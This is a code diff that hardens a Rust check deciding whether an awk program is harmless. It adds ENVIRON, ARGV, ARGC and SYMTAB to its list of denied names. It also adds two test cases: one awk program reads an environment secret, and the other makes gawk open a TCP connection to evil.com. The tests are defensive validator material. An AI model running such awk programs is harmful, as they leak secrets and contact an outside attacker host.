@@ -75,7 +75,8 @@ fn is_plain_awk(program: &str) -> bool {
                 let length = reader.skip(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.'));
                 let word = format!("{c}{}", &from[..length]);
                 match word.as_str() {
-                    "system" | "getline" => return false,
+                    // The names of files and the environment are not the program's to choose or to read.
+                    "system" | "getline" | "ENVIRON" | "ARGV" | "ARGC" | "SYMTAB" => return false,
                     "print" | "printf" => printing = printing.or(Some(depth)),
                     _ => {}
                 }
@@ -132,6 +133,8 @@ mod tests {
             "{ print \"",
             "{ for (;;) print $1 > $2 }",
             "{print (1)(2) > \"x\"}",
+            "BEGIN{print ENVIRON[\"SECRET\"]}",
+            "BEGIN{ARGV[ARGC++]=\"/inet/tcp/0/evil.com/80\"}{print}",
         ] {
             assert!(!is_plain_awk(program), "{program}");
         }
